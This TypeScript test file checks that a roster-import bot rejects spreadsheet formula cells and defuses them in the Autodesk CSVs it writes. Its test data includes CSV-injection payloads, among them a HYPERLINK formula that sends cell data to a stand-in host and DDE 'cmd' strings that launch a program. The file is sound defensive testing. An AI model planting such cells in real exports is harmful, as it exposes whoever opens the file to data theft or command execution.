// Cells a spreadsheet would run as a formula: refused at roster import with the line and a reason, and defused in
// every CSV the bot writes (Autodesk's import files, the person report), for people already in the store.
import { describe, expect, it } from 'vitest';
import { assignFiles, inviteFiles } from '../../src/autodesk/csv/import-files.ts';
import { newPerson } from '../../src/domain/person.ts';
import { toCsv } from '../../src/domain/csv-writer.ts';
import { parseRoster } from '../../src/roster/parse-roster.ts';

const HEADER = 'email,first name,last name';

describe('roster import', () => {
  it.each([
    ['first name', 'ok1@example.org,"=HYPERLINK(""http://evil.example/?""&A1)",Doe'],
    ['first name', "ok2@example.org,+cmd|' /C calc'!A0,Doe"],
    ['last name', "ok3@example.org,Jane,@SUM(1+1)*cmd|' /C calc'!A0"],
    ['last name', 'ok4@example.org,Jane,-2+3'],
    ['e-mail', '=1+2@example.org,Jane,Doe'],
    ['e-mail', '+x@example.org,Jane,Doe'],
    ['e-mail', '-x@example.org,Jane,Doe'],
    ['first name', 'ok5@example.org,"  =1+1",Doe'],
  ])('refuses a %s that a spreadsheet would run as a formula, with its line', (label, line) => {
    const r = parseRoster(`${HEADER}\nfine@example.org,Ann,Lee\n${line}\n`);
    if (!r.ok) throw new Error(r.reason);
    expect(r.roster.entries.map((e) => e.email)).toEqual(['fine@example.org']);
    expect(r.roster.rejected).toHaveLength(1);
    expect(r.roster.rejected[0]!.line).toBe(3);
    expect(r.roster.rejected[0]!.reason).toContain(label);
    expect(r.roster.rejected[0]!.reason).toMatch(/spreadsheet formula/);
  });
  it('keeps names with these characters inside them', () => {
    const r = parseRoster(`${HEADER}\nann@example.org,Jean-Luc,O+Neil\n`);
    expect(r.ok && r.roster.entries.map((e) => [e.firstName, e.lastName])).toEqual([['Jean-Luc', 'O+Neil']]);
  });
});

describe('every CSV the bot writes', () => {
  const person = (firstName: string, lastName: string, email: string) =>
    newPerson({ email, firstName, lastName, products: ['AutoCAD'] }, Date.UTC(2026, 0, 1));
  const hostile = [
    person('=HYPERLINK("http://evil.example")', '+cmd|x', 'a@example.org'),
    person('@SUM(1)', '-1', 'b@example.org'),
  ];
  const formulaCell = /(^|,|\r\n)"?[=+\-@\t\r]/;

  it('defuses formula cells in invite-users-*.csv and assign-*.csv', () => {
    for (const file of [...inviteFiles(hostile, 0), ...assignFiles('AutoCAD', hostile, 0)]) {
      expect(file.content).not.toMatch(formulaCell);
      expect(file.content).toContain(`"'=HYPERLINK(""http://evil.example"")"`);
      expect(file.content).toContain(`'@SUM(1),'-1,b@example.org`);
    }
  });
  it('writes RFC 4180 text with CRLF after every record through the one writer', () => {
    expect(
      toCsv(
        ['a', 'b'],
        [
          ['x,y', '=1'],
          ['"q"', ''],
        ],
      ),
    ).toBe(`a,b\r\n"x,y",'=1\r\n"""q""",\r\n`);
  });
});
